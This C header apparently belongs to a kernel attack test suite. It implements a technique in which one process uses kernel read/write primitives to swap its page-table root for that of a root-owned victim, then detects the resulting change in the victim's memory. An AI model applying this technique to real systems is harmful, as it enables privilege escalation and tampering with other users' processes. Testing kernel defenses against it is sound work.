// SPDX-License-Identifier: GPL-2.0-only
/*
 * bent_root.h - a program replaces the root in its address space by that of a program of root, and
 * does something to its own page MEMORY: it is done to what root's program has there. The victim
 * looks again and again, and says when it is changed.
 */
#pragma once
#include "attack.h"

#define CHANGED "/tmp/changed"

static volatile char memory[PAGE] __attribute__((aligned(PAGE)));

static bool control(void)
{
	return is_ordinary();
}

static inline uint64_t space_root(void)
{
	return peek(own_task() + member("task.space")) + member("address_space.root");
}

/* Alone on its processor: nothing may switch while the root is another's. Returns its own. */
static uint64_t bend_root(void)
{
	const uint64_t other = own_root(victim_task(own_task())), place = space_root();
	const uint64_t own = peek(place);

	(void)own_cpu(1);
	poke(place, other);
	return own;
}

/* The victim says so as soon as it looks. */
static bool is_changed(void)
{
	await(file_is_there(CHANGED));
	return true;
}

static inline void say_changed(void)
{
	call3(__NR_open, (long)CHANGED, O_CREAT | O_RDWR, 0644);
}

/* A victim that has written to its page, and reads what it wrote. */
static inline void victim_reads(void)
{
	(void)own_cpu(0);
	memory[0] = 'V';
	for (;;) {
		victim_round();
		if (memory[0] != 'V')
			say_changed();
		sleep_milliseconds(5);
	}
}
